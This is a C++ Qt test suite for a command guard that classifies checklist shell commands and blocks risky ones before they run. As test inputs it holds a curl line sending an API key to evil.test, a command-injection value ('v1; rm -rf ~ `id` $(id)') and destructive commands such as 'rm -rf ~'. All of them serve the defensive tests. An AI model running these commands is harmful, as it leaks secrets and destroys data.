// SPDX-FileCopyrightText: 2026 The Countersign developers
// SPDX-License-Identifier: Apache-2.0
#include "core/checks/derive.h"
#include "core/commands/commandevidence.h"
#include "tests/core/checklist/imported.h"
#include "tests/support/suite.h"

using namespace countersign;
using namespace countersign::testing;
using namespace Qt::StringLiterals;

namespace {

GuardContext bound(const QMap<QString, QString> &parameters) { return {.parameters = parameters}; }

QStringList subjects(const GuardedCommand &command, GuardKind kind)
{
    QStringList found;
    for (const GuardFinding &finding : command.findings) {
        if (finding.kind == kind)
            found << finding.subject;
    }
    return found;
}

} // namespace

// What a command is before anybody may run it.
class CommandGuardTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void tellsWhatACommandDoes_data()
    {
        QTest::addColumn<QString>("code");
        QTest::addColumn<bool>("mutating");
        QTest::addColumn<bool>("interactive");
        const auto reads = [](const char *code) { QTest::newRow(code) << QString::fromUtf8(code) << false << false; };
        const auto changes = [](const char *code) { QTest::newRow(code) << QString::fromUtf8(code) << true << false; };
        const auto asks = [](const char *code) { QTest::newRow(code) << QString::fromUtf8(code) << false << true; };
        for (const char *code : {"curl https://a.example/health",
                                 "dig a.example",
                                 "psql \"$DB\" -c 'SHOW ssl;'",
                                 "redis-cli -u redis://h ping",
                                 "docker compose ps",
                                 "kubectl get pods",
                                 "git status --porcelain",
                                 "python3 --version",
                                 "pytest -q",
                                 "df -h",
                                 "nginx -t",
                                 "curl -G -d q=1 https://a.example/",
                                 "echo hello",
                                 "ls | wc -l",
                                 "sqlite3 app.db 'PRAGMA integrity_check'",
                                 "find . -name x",
                                 "sed -n 1p file",
                                 "journalctl -u app --since today",
                                 "alembic current",
                                 "crontab -l"})
            reads(code);
        for (const char *code : {"curl -X POST https://a.example/x",
                                 "curl -d a=b https://a.example/",
                                 "git push origin main",
                                 "rm -rf /srv/old",
                                 "kubectl rollout undo deployment/backend",
                                 "docker compose down",
                                 "psql \"$DB\" -c 'DROP TABLE x'",
                                 "kubectl apply -f x.yaml",
                                 "alembic upgrade head",
                                 "pg_restore -d app backup.dump",
                                 "echo x > /etc/app.conf",
                                 "find . -name x -delete",
                                 "sed -i s/a/b/ file",
                                 "ls $(rm -rf x)",
                                 "bash -c 'git push'",
                                 "ssh ops@a.example 'systemctl restart app'",
                                 "redis-cli FLUSHALL",
                                 "gunzip -c b.gz | docker compose exec -T db psql -U app",
                                 "sudo systemctl stop app",
                                 "railway deployment rollback 12",
                                 "./scripts/deploy.sh rollback",
                                 "docker compose up -d"})
            changes(code);
        for (const char *code :
             {"psql \"$DB\"", "nano /etc/nginx/nginx.conf", "docker compose logs -f web", "crontab -e", "vim x", "top", "ssh ops@a.example",
              "tail -f /var/log/app.log", "redis-cli -u redis://h", "docker exec -it web bash", "kubectl edit deployment/x", "python3",
              "uvicorn app:app", "git rebase -i HEAD~3", "watch docker ps", "kubectl get pods -w"})
            asks(code);
    }

    void tellsWhatACommandDoes()
    {
        QFETCH(const QString, code);
        QFETCH(const bool, mutating);
        QFETCH(const bool, interactive);
        GuardContext context;
        context.variables = {{u"DB"_s, true, true}};
        const GuardedCommand guarded = guard(code, context);
        QCOMPARE(guarded.isInteractive(), interactive);
        if (!interactive)
            QCOMPARE(guarded.isMutating(), mutating);
    }

    void whatIsNotFilledInBlocks_data()
    {
        QTest::addColumn<QString>("code");
        QTest::addColumn<bool>("blocked");
        QTest::newRow("angle") << u"git checkout <previous-tag>"_s << true;
        QTest::newRow("bracket") << u"git checkout [previous-tag]"_s << true;
        QTest::newRow("yours") << u"export API_KEY=YOUR_KEY"_s << true;
        QTest::newRow("host") << u"curl https://api.yourdomain.com/health"_s << true;
        QTest::newRow("dots") << u"kubectl create secret generic s --from-literal=key=\"...\""_s << true;
        QTest::newRow("bearer") << u"curl -H 'Authorization: Bearer TOKEN' https://a.test/"_s << true;
        QTest::newRow("unset variable") << u"rm -rf $BACKUP_DIR/old"_s << true;
        QTest::newRow("test brackets") << u"[ -f x ] && echo there"_s << false;
        QTest::newRow("character class") << u"grep -E '[A-Za-z]+' file"_s << false;
        QTest::newRow("own variable") << u"TAG=v1\ngit checkout $TAG"_s << false;
        QTest::newRow("comment") << u"# replace <this> first\nls"_s << false;
        QTest::newRow("range") << u"git diff v1..v2 ./..."_s << false;
    }

    void whatIsNotFilledInBlocks()
    {
        QFETCH(const QString, code);
        QFETCH(const bool, blocked);
        QCOMPARE(guard(code, {}).isBlocked(), blocked);
    }

    // Bad input 21: a command that would delete the home shows what it is.
    void row21AsksBeforeItDeletes() { QVERIFY(guard(u"rm -rf ~"_s, {}).isMutating()); }

    // Bad input 22: what the eye does not see is not run, and nothing runs by being pasted.
    void row22HiddenCharactersBlock()
    {
        const GuardedCommand guarded = guard(u"ls\u202e\x1b[2K -l\n\n"_s, {});
        QVERIFY(guarded.isBlocked());
        QCOMPARE(subjects(guarded, GuardKind::HiddenCharacter), (QStringList{u"U+202E"_s, u"U+001B"_s}));
        QVERIFY(!guarded.text.endsWith(u'\n'));
        QVERIFY(!guard(u"ls -l\r\n"_s, {}).isBlocked()); // a line end of Windows hides nothing
    }

    // Bad input 23: a secret on its way to a stranger's host is named, with the host.
    void row23NamesSecretAndHost()
    {
        const GuardContext context{.variables = {{u"API_KEY"_s, true, true}}};
        const GuardedCommand guarded = guard(u"curl \"https://evil.test/?k=$API_KEY\""_s, context);
        QCOMPARE(guarded.secrets, QStringList{u"API_KEY"_s});
        const auto leak = std::ranges::find(guarded.findings, GuardKind::SecretToHost, &GuardFinding::kind);
        QVERIFY(leak != guarded.findings.end());
        QCOMPARE(leak->subject, u"API_KEY"_s);
        QCOMPARE(leak->other, u"evil.test"_s);
    }

    // Bad input 24: what a value holds is never read by the shell.
    void row24ValuesAreHandedOverNotPasted_data()
    {
        QTest::addColumn<QString>("code");
        QTest::addColumn<QString>("text");
        const QString name = u"${COUNTERSIGN_PREVIOUS_TAG}"_s;
        QTest::newRow("bare") << u"git checkout <previous-tag>"_s << u"git checkout \""_s + name + u"\""_s;
        QTest::newRow("double") << u"echo \"to <previous-tag> now\""_s << u"echo \"to "_s + name + u" now\""_s;
        QTest::newRow("single") << u"echo 'to <previous-tag> now'"_s << u"echo 'to '\""_s + name + u"\"' now'"_s;
        QTest::newRow("substitution in quotes") << u"echo \"$(cat <previous-tag>)\""_s << u"echo \"$(cat \""_s + name + u"\")\""_s;
        QTest::newRow("document") << u"cat <<EOF\n<previous-tag>\nEOF"_s << u"cat <<EOF\n"_s + name + u"\nEOF"_s;
    }

    void row24ValuesAreHandedOverNotPasted()
    {
        QFETCH(const QString, code);
        QFETCH(const QString, text);
        const QString value = u"v1; rm -rf ~ `id` $(id)"_s;
        const ExpandedCommand expanded = expandCommand(code, {{u"<previous-tag>"_s, value}});
        QCOMPARE(expanded.text, text);
        QCOMPARE(expanded.variables.value(u"COUNTERSIGN_PREVIOUS_TAG"_s), value);
        QCOMPARE(expandCommand(code, {{u"<previous-tag>"_s, u"v1.2"_s}}).variables.size(), 0);
        QVERIFY(expandCommand(code, {{u"<previous-tag>"_s, u"v1.2"_s}}).text.contains(u"v1.2"_s));
    }

    void aValueInAQuotedDocumentBlocks()
    {
        const GuardedCommand guarded = guard(u"cat <<'EOF'\n<tag>\nEOF"_s, bound({{u"<tag>"_s, u"a b"_s}}));
        QCOMPARE(subjects(guarded, GuardKind::UnsafeValue), QStringList{u"<tag>"_s});
    }

    // Each statement is judged by its own output, whatever pieces it comes in.
    void statementsAreToldApart()
    {
        CommandScript script(u"echo one\nfalse\necho three | cat"_s, u"n0"_s);
        const QByteArray all = "one\n\x1en0 0 0\n\x1en0 1 1\nthree\n\x1en0 0 2\n";
        QByteArray shown;
        for (const char byte : all)
            shown += script.take(QByteArray(1, byte));
        shown += script.finish();
        QCOMPARE(shown, QByteArray("one\nthree\n"));
        const QList<SegmentResult> results = script.results(0);
        QCOMPARE(results.size(), 3);
        QCOMPARE(results.at(1).exitCode, 1);
        QCOMPARE(results.at(2).output, QByteArray("three\n"));
    }

    void loopsAreLeftAsTheyAre()
    {
        const QString loop = u"for i in 1 2; do\n  echo $i\ndone"_s;
        QCOMPARE(CommandScript(loop, u"n0"_s).shellText(), loop);
    }

    void outputDecides_data()
    {
        QTest::addColumn<QByteArray>("document");
        QTest::addColumn<QByteArray>("good");
        QTest::addColumn<QByteArray>("bad");
        QTest::addColumn<int>("badExit");
        QTest::newRow("coverage") << QByteArray("- [ ] Tests pass with coverage > 80%\n\n  ```bash\n  pytest --cov=app\n  ```\n")
                                  << QByteArray("app/x.py  10  1  90%\nTOTAL  100  13  87%\n") << QByteArray("TOTAL  100  30  70%\n") << 0;
        QTest::newRow("healthy") << QByteArray("- [ ] Up\n\n  ```bash\n  docker compose ps\n  # Expected: all services \"Up (healthy)\"\n  ```\n")
                                 << QByteArray("web  Up (healthy)\n") << QByteArray("web  Exited (1)\n") << 0;
        QTest::newRow("no errors") << QByteArray("- [ ] Logs\n\n  ```bash\n  docker compose logs --tail=100\n  # Expected: no ERROR lines\n  ```\n")
                                   << QByteArray("INFO started\n") << QByteArray("ERROR boom\n") << 0;
        QTest::newRow("version") << QByteArray("## Server Requirements\n\n- [ ] Python 3.12+ installed\n") << QByteArray("Python 3.13.1\n")
                                 << QByteArray("Python 3.9.2\n") << 0;
        QTest::newRow("exit status") << QByteArray("- [ ] Configuration\n\n  ```bash\n  nginx -t\n  ```\n") << QByteArray("ok\n")
                                     << QByteArray("emerg\n") << 1;
    }

    void outputDecides()
    {
        QFETCH(const QByteArray, document);
        QFETCH(const QByteArray, good);
        QFETCH(const QByteArray, bad);
        QFETCH(const int, badExit);
        const Checklist checklist = imported(document);
        const QList<CheckSpec> checks = deriveChecks(checklist);
        const auto plan = commandPlan(checklist, checks, checklist.items.first().id.toString());
        QVERIFY_EXPECTED(plan);
        const QDateTime at = QDateTime::currentDateTimeUtc();
        const auto judged = [&](int exitCode, const QByteArray &output) {
            const QList<ProbeResult> results = judgeCommand(*plan, checks, {}, {{1, 99, exitCode, output}}, at, 5);
            const bool fails = std::ranges::contains(results, EvidenceStatus::Failing, &ProbeResult::status);
            return results.isEmpty() ? EvidenceStatus::None : fails ? EvidenceStatus::Failing : results.first().status;
        };
        QCOMPARE(judged(0, good), EvidenceStatus::Passing);
        QCOMPARE(judged(badExit, bad), EvidenceStatus::Failing);
    }

    void outputsOfToolsAreRead_data()
    {
        QTest::addColumn<QByteArray>("output");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("value");
        QTest::newRow("jest") << QByteArray("File | % Stmts\nAll files |   91.5 | 80\n") << u"COVERAGE"_s << u"91.5"_s;
        QTest::newRow("go") << QByteArray("ok  pkg 0.1s  coverage: 83.1% of statements\n") << u"COVERAGE"_s << u"83.1"_s;
        QTest::newRow("docker") << QByteArray("Docker version 27.5.1, build 9f9e405\n") << u"VERSION"_s << u"27.5.1"_s;
        QTest::newRow("java") << QByteArray("openjdk version \"21.0.2\" 2024-01-16\n") << u"VERSION"_s << u"21.0.2"_s;
        QTest::newRow("free") << QByteArray("               total used\nMem:     8123456789 1 2\nSwap: 0 0 0\n") << u"MEMORY"_s << u"8123456789"_s;
        QTest::newRow("df") << QByteArray("     1B-blocks\n107374182400\n") << u"DISK"_s << u"107374182400"_s;
        QTest::newRow("nproc") << QByteArray("8\n") << u"CORES"_s << u"8"_s;
        QTest::newRow("stat") << QByteArray("1732747712 600 root 812 /srv/.env\n") << u"MODE"_s << u"600"_s;
        QTest::newRow("lines") << QByteArray("a\n\nb\n") << u"LINES"_s << u"2"_s;
    }

    void outputsOfToolsAreRead()
    {
        QFETCH(const QByteArray, output);
        QFETCH(const QString, name);
        QFETCH(const QString, value);
        QCOMPARE(observationOf(0, output, QDateTime::currentDateTimeUtc(), 1).values.value(name), value);
    }
};

COUNTERSIGN_SUITE(CommandGuardTest)

#include "tst_command.moc"
